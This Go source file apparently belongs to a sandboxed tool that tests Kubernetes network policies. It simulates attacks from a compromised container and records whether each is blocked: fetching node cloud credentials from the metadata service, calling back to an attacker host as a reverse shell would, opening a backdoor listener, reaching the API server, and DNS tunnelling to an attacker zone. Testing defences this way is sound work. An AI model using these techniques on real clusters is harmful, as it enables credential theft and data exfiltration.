package networkpolicy

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	mathrand "math/rand/v2"
	"net"
	"strconv"
	"strings"
	"syscall"
	"time"

	"road/internal/probe"
	"road/internal/sandbox"
	"road/internal/step"
)

// The attacks of this step: whom an attacker in the container reaches, and who
// reaches it. What a policy denies is dropped, so blocked means that the other
// side saw nothing for a second, while the same call took milliseconds where it
// succeeded.
var attacks = []step.Attack{
	{
		Name:      "steal-cloud-credentials",
		Goal:      "have the application fetch the node's cloud credentials",
		Transport: step.Request,
		Needs:     []sandbox.Power{sandbox.NetworkPolicy, sandbox.Attackers},
		Waits:     true,
		Run:       stealCloudCredentials,
	},
	{
		Name:      "reverse-shell",
		Goal:      "call home to the attacker's host",
		Transport: step.Code,
		Needs:     []sandbox.Power{sandbox.NetworkPolicy, sandbox.CodeInside, sandbox.Attackers},
		Waits:     true,
		Run:       reverseShell,
	},
	{
		Name:      "backdoor-listener",
		Goal:      "open a port of one's own and wait for a neighbour to call it",
		Transport: step.Code,
		Needs:     []sandbox.Power{sandbox.NetworkPolicy, sandbox.CodeInside, sandbox.Attackers},
		Waits:     true,
		Run:       backdoorListener,
	},
	{
		Name:      "redis-from-a-stranger",
		Goal:      "change the data store's data from another pod, with the stolen password",
		Transport: step.Other,
		Needs:     []sandbox.Power{sandbox.NetworkPolicy, sandbox.CodeInside, sandbox.Attackers},
		Waits:     true,
		Run:       redisFromAStranger,
	},
	{
		Name:      "scan-neighbours",
		Goal:      "find other pods and Services that answer",
		Transport: step.Code,
		Needs:     []sandbox.Power{sandbox.NetworkPolicy, sandbox.CodeInside, sandbox.Attackers},
		Waits:     true,
		Run:       scanNeighbours,
	},
	{
		Name:      "reach-kube-api",
		Goal:      "talk to the cluster's API server",
		Transport: step.Code,
		Needs:     []sandbox.Power{sandbox.NetworkPolicy, sandbox.CodeInside, sandbox.Attackers},
		Waits:     true,
		Run:       reachKubeAPI,
	},
	{
		Name:      "redis-from-the-app",
		Goal:      "change the data store's data from the application itself",
		Transport: step.Code,
		Needs:     []sandbox.Power{sandbox.CodeInside},
		Open:      "the application needs this connection and this password, and so has them who took it over",
		Waits:     true,
		Run:       redisFromTheApp,
	},
	{
		Name:      "dns-tunnel",
		Goal:      "send data out in the names that cluster DNS is asked for",
		Transport: step.Code,
		Needs:     []sandbox.Power{sandbox.CodeInside, sandbox.Attackers},
		Open:      "cluster DNS asks the world's name servers for whoever may ask it, and a policy does not look into questions",
		Waits:     true,
		Run:       dnsTunnel,
	},
}

// quiet is how long the other side waits before nothing has come. A first packet that
// is lost on a busy machine comes again after a second: one lost packet blocks nothing.
const quiet = 1500 * time.Millisecond

// millis is quiet for the probe.
const millis = int(quiet / time.Millisecond)

// secretPath is where the metadata service has the credentials of the node's role.
const secretPath = "/latest/meta-data/iam/security-credentials/road"

// stealCloudCredentials is the request that has emptied cloud accounts.
func stealCloudCredentials(ctx context.Context, s *sandbox.Scene) (step.Outcome, error) {
	if s.Control == nil {
		return step.Outcome{}, errors.New("there is no metadata service here")
	}
	host, _, err := net.SplitHostPort(sandbox.MetadataAddr)
	if err != nil {
		return step.Outcome{}, err
	}
	before := len(s.Control.Log(sandbox.Metadata))
	body, err := s.Foothold.Request(ctx, "http://"+host+secretPath)
	if err != nil {
		return step.Outcome{}, err
	}
	return judgeCredentials(body, since(s, sandbox.Metadata, before))
}

// judgeCredentials says what the hole's answer and the metadata service's
// journal mean. The credentials stay out of the evidence.
func judgeCredentials(body string, journal []string) (step.Outcome, error) {
	asked := strings.Join(journal, "\n")
	switch {
	case strings.Contains(body, `"SecretAccessKey"`) && strings.Contains(asked, secretPath+" 200"):
		return step.Outcome{Verdict: step.Succeeded, Evidence: "the metadata service: " + asked + "\n" + `"SecretAccessKey": "***"`}, nil
	case asked == "" && timedOut(body):
		return step.Outcome{Verdict: step.Blocked, Evidence: lastLine(body) + "\nthe metadata service saw no request"}, nil
	}
	return step.Outcome{}, fmt.Errorf("the hole answers %q", lastLine(body))
}

// timedOut says whether a hole's answer is that nothing came back.
func timedOut(body string) bool {
	for _, part := range []string{"deadline exceeded", "timeout", "timed out"} {
		if strings.Contains(strings.ToLower(body), part) {
			return true
		}
	}
	return false
}

// since gives what a stand-in was asked after the first n lines.
func since(s *sandbox.Scene, who sandbox.StandIn, n int) []string {
	journal := s.Control.Log(who)
	return journal[min(n, len(journal)):]
}

// reverseShell calls the attacker's host from inside and says a line.
func reverseShell(ctx context.Context, s *sandbox.Scene) (step.Outcome, error) {
	l, err := s.Attacker.Listen(ctx, "tcp4", ":0")
	if err != nil {
		return step.Outcome{}, err
	}
	defer l.Close()
	line := "shell of " + token()
	heard := hear(l)
	addr := net.JoinHostPort(s.Attacker.Addr(), portOf(l.Addr()))
	dialErr := s.Foothold.Code(ctx, probe.Dial, probe.DialArgs{Addr: addr, Send: []byte(line + "\n"), Timeout: millis}, nil)
	if dialErr != nil && step.Refused(dialErr) == "" {
		return step.Outcome{}, dialErr
	}
	select {
	case got := <-heard:
		if strings.TrimSpace(got.text) == line {
			return step.Outcome{Verdict: step.Succeeded, Evidence: fmt.Sprintf("on the attacker's host, from %s: %s", got.from, line)}, nil
		}
		return step.Outcome{}, fmt.Errorf("the attacker's host heard %q", got.text)
	case <-time.After(quiet / 5): // after the time that the call took
	case <-ctx.Done():
		return step.Outcome{}, ctx.Err()
	}
	if dialErr == nil {
		return step.Outcome{}, errors.New("the line was sent, and the attacker's host did not hear it")
	}
	return dropped(dialErr, "the attacker's host heard nothing")
}

// dropped is the outcome of a call that got no answer, or that the kernel did not
// let the container make, as a filter of its system calls has it. Any other
// refusal, such as that nobody listens, proves nothing.
func dropped(err error, saw string) (step.Outcome, error) {
	if !isSilence(err) && step.Denied(err) == "" {
		return step.Outcome{}, err
	}
	return step.Outcome{Verdict: step.Blocked, Evidence: err.Error() + "\n" + saw}, nil
}

// isSilence says whether a call, the probe's or one from a host here, got no
// answer. That the walk gave up waiting, for a probe that does not start as for
// an attack, is none.
func isSilence(err error) bool {
	var n *noAnswer
	return step.Unanswered(err) != "" || errors.As(err, &n)
}

// A noAnswer is a call from a host here that did not come about in time.
type noAnswer struct{ error }

// call connects from a host here. Only the silence of who was called is a
// noAnswer: not that of a name server, nor the end of ctx.
func call(ctx context.Context, from sandbox.Host, addr string) (net.Conn, error) {
	limit, cancel := context.WithTimeout(ctx, quiet)
	defer cancel()
	c, err := from.DialContext(limit, "tcp4", addr)
	var name *net.DNSError
	var late net.Error
	switch {
	case err == nil:
		return c, nil
	case ctx.Err() != nil:
		return nil, ctx.Err()
	case !errors.As(err, &name) && errors.As(err, &late) && late.Timeout():
		return nil, &noAnswer{err}
	}
	return nil, err
}

// A line is what somebody said to a listener.
type line struct{ text, from string }

// hear gives the first line that comes.
func hear(l net.Listener) <-chan line {
	heard := make(chan line, 1)
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(quiet))
		b, _ := io.ReadAll(io.LimitReader(c, 1000)) // what came before the end is what was said
		host, _, _ := net.SplitHostPort(c.RemoteAddr().String())
		heard <- line{string(b), host}
	}()
	return heard
}

// backdoorListener opens a port in the container and has the neighbour call it.
func backdoorListener(ctx context.Context, s *sandbox.Scene) (out step.Outcome, err error) {
	word := "backdoor " + token()
	var door probe.ListenResult
	// A port of the attacker's choice: to ask which one the kernel gave is a system
	// call more, which a filter may refuse.
	port := strconv.Itoa(20000 + mathrand.IntN(10000))
	if err := s.Foothold.Code(ctx, probe.Listen, probe.ListenArgs{Addr: "0.0.0.0:" + port, Send: []byte(word)}, &door); err != nil {
		if step.Denied(err) != "" {
			return dropped(err, "there is no port to call")
		}
		return step.Outcome{}, err
	}
	defer func() {
		err = errors.Join(err, step.Clean(ctx, s.Foothold, probe.Release, probe.Held{Hold: door.Hold}))
	}()
	addr := net.JoinHostPort(s.Addr, port)
	got, callErr := read(ctx, s.Neighbour, addr, len(word))
	if string(got) == word {
		return step.Outcome{Verdict: step.Succeeded, Evidence: fmt.Sprintf("the neighbour read from %s: %s", addr, word)}, nil
	}
	if callErr == nil {
		return step.Outcome{}, fmt.Errorf("the neighbour read %q", got)
	}
	return dropped(callErr, "the neighbour read nothing")
}

// read calls an address and reads n bytes.
func read(ctx context.Context, from sandbox.Host, addr string, n int) ([]byte, error) {
	c, err := call(ctx, from, addr)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(quiet))
	b := make([]byte, n)
	m, err := io.ReadFull(c, b)
	if err != nil {
		err = fmt.Errorf("connected, and then: %w", err)
	}
	return b[:m], err
}

// reachKubeAPI says hello to the API server. Without TLS it answers that it
// wants TLS, which is an answer.
func reachKubeAPI(ctx context.Context, s *sandbox.Scene) (step.Outcome, error) {
	if s.Control == nil {
		return step.Outcome{}, errors.New("there is no API server here")
	}
	env, err := environ(ctx, s)
	if err != nil {
		return step.Outcome{}, err
	}
	if env["KUBERNETES_SERVICE_HOST"] == "" {
		return step.Outcome{}, errors.New("the environment does not say where the API server is")
	}
	addr := net.JoinHostPort(env["KUBERNETES_SERVICE_HOST"], env["KUBERNETES_SERVICE_PORT"])
	before := len(s.Control.Log(sandbox.API))
	var answer probe.DialResult
	err = s.Foothold.Code(ctx, probe.Dial, probe.DialArgs{Addr: addr, Expect: -1, Timeout: millis,
		Send: []byte("GET /version HTTP/1.1\r\nHost: kubernetes\r\n\r\n")}, &answer)
	journal := strings.Join(since(s, sandbox.API, before), "\n")
	switch {
	case err == nil && len(answer.Data) > 0 && journal != "":
		return step.Outcome{Verdict: step.Succeeded, Evidence: fmt.Sprintf("%s: %s\nthe API server's log: %s from %s", addr, lastLine(string(answer.Data)), journal, s.Addr)}, nil
	case err == nil:
		return step.Outcome{}, fmt.Errorf("%s took the connection and did not answer", addr)
	case journal != "":
		return step.Outcome{}, fmt.Errorf("the API server was reached: %s: %w", journal, err)
	}
	return dropped(err, "the API server's log is empty")
}

// dnsTunnel asks cluster DNS for a name in the attacker's zone: the name is the
// message.
func dnsTunnel(ctx context.Context, s *sandbox.Scene) (step.Outcome, error) {
	if s.Control == nil {
		return step.Outcome{}, errors.New("there is no name server of the attacker's here")
	}
	label := token()
	err := ask(ctx, s, label+"."+sandbox.AttackerZone)
	for _, asked := range s.Control.Log(sandbox.NameServer) {
		if strings.Contains(asked, label) {
			return step.Outcome{Verdict: step.Succeeded, Evidence: "the attacker's name server was asked: " + asked}, nil
		}
	}
	if err == nil {
		return step.Outcome{}, errors.New("cluster DNS answered, and the attacker's name server was not asked")
	}
	if line := step.Refused(err); errors.Is(err, syscall.ETIMEDOUT) && line != "" {
		return step.Outcome{Verdict: step.Blocked, Evidence: fmt.Sprintf("%s, asked %d times\nthe attacker's name server was not asked", line, tries)}, nil
	}
	return dropped(err, "the attacker's name server was not asked")
}

// tries is how often a question is asked that gets no answer: one datagram may
// be lost by itself.
const tries = 3

// ask asks cluster DNS for a name from inside.
func ask(ctx context.Context, s *sandbox.Scene, name string) (err error) {
	for range tries {
		err = s.Foothold.Code(ctx, probe.Resolve, probe.ResolveArgs{Name: name, Timeout: millis}, nil)
		if !errors.Is(err, syscall.ETIMEDOUT) {
			break
		}
	}
	return err
}

// environ gives the application's environment.
func environ(ctx context.Context, s *sandbox.Scene) (map[string]string, error) {
	var list []string
	if err := s.Foothold.Code(ctx, probe.Environ, nil, &list); err != nil {
		return nil, err
	}
	env := map[string]string{}
	for _, e := range list {
		k, v, _ := strings.Cut(e, "=")
		env[k] = v
	}
	return env, nil
}

// token gives a word that nobody else says.
func token() string {
	var b [8]byte
	rand.Read(b[:]) // never fails
	return hex.EncodeToString(b[:])
}

func portOf(a net.Addr) string {
	_, port, _ := net.SplitHostPort(a.String())
	return port
}

// lastLine gives the last line of s that is not empty, whole: what is secret in
// it is found by what stands around it.
func lastLine(s string) string {
	last := ""
	for l := range strings.Lines(s) {
		if l = strings.TrimSpace(l); l != "" {
			last = l
		}
	}
	return last
}
